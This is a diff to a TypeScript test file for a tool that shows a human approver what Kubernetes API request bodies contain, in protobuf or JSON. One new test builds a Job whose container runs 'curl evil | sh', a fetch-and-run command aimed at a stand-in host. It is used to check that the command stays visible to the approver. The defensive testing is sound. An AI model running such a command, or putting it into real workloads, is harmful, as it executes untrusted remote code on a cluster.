@@ -1,11 +1,14 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
+import { toProtobuf } from '../policy/pods/to-protobuf.ts'
 import { WEBSOCKET } from '../request/a-http-request.ts'
+import { bytesField, envelope, flagField } from '../request/object/a-protobuf.ts'
 import { asked, questionOf, type Sent, whyNot } from './asking.ts'
 
 const DEPLOYMENT = '/apis/apps/v1/namespaces/shop/deployments/web'
 const POD = '/api/v1/namespaces/shop/pods/web'
 const JSON_BODY = 'application/json'
+const PROTOBUF = 'application/vnd.kubernetes.protobuf'
 
 const patch = (body: unknown, type = 'application/strategic-merge-patch+json') =>
   questionOf(`PATCH ${DEPLOYMENT}`, { body: JSON.stringify(body), type })
@@ -89,11 +92,60 @@ describe('what an approver sees of a body', () => {
     })
   })
 
+  test('a create in protobuf is shown as its JSON is, and a no to one is a no to the other', () => {
+    const job = {
+      metadata: { name: 'j' },
+      spec: {
+        backoffLimit: 0,
+        template: {
+          spec: {
+            containers: [{ name: 'j', image: 'busybox', command: ['sh', '-c', 'curl evil | sh'] }],
+            serviceAccountName: 'builder',
+            hostNetwork: true,
+            restartPolicy: 'Never',
+          },
+        },
+      },
+    }
+    const line = 'POST /apis/batch/v1/namespaces/shop/jobs'
+    const body = toProtobuf('jobs', job)
+    const said = { apiVersion: 'batch/v1', kind: 'Job', ...job }
+    const inJson = questionOf(line, { body: JSON.stringify(said), type: JSON_BODY })
+    const inProtobuf = questionOf(line, { body, type: PROTOBUF })
+    expect(new Set(inProtobuf.facts)).toEqual(new Set(inJson.facts))
+    expect(inProtobuf.facts).toContain(`spec.template.spec.containers[0].command = sh -c 'curl evil | sh'`)
+    expect(inProtobuf).toMatchObject({ bodyBytes: body.length, contentType: PROTOBUF })
+    expect(inProtobuf.bodyPreview).toContain('curl evil')
+    expect(asked(line, { body, type: PROTOBUF }).subject).toBe(
+      asked(line, { body: JSON.stringify(said), type: JSON_BODY }).subject,
+    )
+  })
+
+  test('options of a delete in protobuf are shown', () => {
+    const body = envelope(Buffer.concat([flagField(1, 0), bytesField(4, 'Orphan'), bytesField(5, 'All')]))
+    expect(questionOf(`DELETE ${POD}`, { body, type: PROTOBUF })).toMatchObject({
+      summary: 'DRY RUN, changes nothing: delete pods "web" in shop, propagation Orphan, grace 0 s',
+      bodyPreview: '{"gracePeriodSeconds":0,"propagationPolicy":"Orphan","dryRun":["All"]}',
+    })
+  })
+
   test.each<{ name: string; line: string; sent: Sent; says: string }>([
     {
-      name: 'protobuf',
+      name: 'protobuf with a field of another version',
       line: 'POST /api/v1/namespaces/shop/pods',
-      sent: { body: Buffer.from('k8s\0\x12\x00'), type: 'application/vnd.kubernetes.protobuf' },
+      sent: { body: envelope(bytesField(2, bytesField(99, 'x'))), type: PROTOBUF },
+      says: 'send JSON',
+    },
+    {
+      name: 'protobuf of another kind than the path says',
+      line: 'POST /api/v1/namespaces/shop/pods',
+      sent: { body: Buffer.from('k8s\0\x0a\x0c\x0a\x02v1\x12\x06Secret\x12\x00', 'latin1'), type: PROTOBUF },
+      says: 'send JSON',
+    },
+    {
+      name: 'protobuf of somebody else',
+      line: 'POST /apis/metrics.example.com/v1/namespaces/shop/pods',
+      sent: { body: envelope(bytesField(2, '')), type: PROTOBUF },
       says: 'send JSON',
     },
     {
@@ -103,10 +155,10 @@ describe('what an approver sees of a body', () => {
       says: 'a member is named twice',
     },
     {
-      name: 'options of a delete in protobuf',
+      name: 'options of a delete in protobuf of another version',
       line: `DELETE ${POD}`,
-      sent: { body: Buffer.from('k8s\0\x12\x00'), type: 'application/vnd.kubernetes.protobuf' },
-      says: 'its options are not JSON',
+      sent: { body: envelope(bytesField(99, 'x')), type: PROTOBUF },
+      says: 'its options cannot be read',
     },
     {
       name: 'more about what runs than fits',
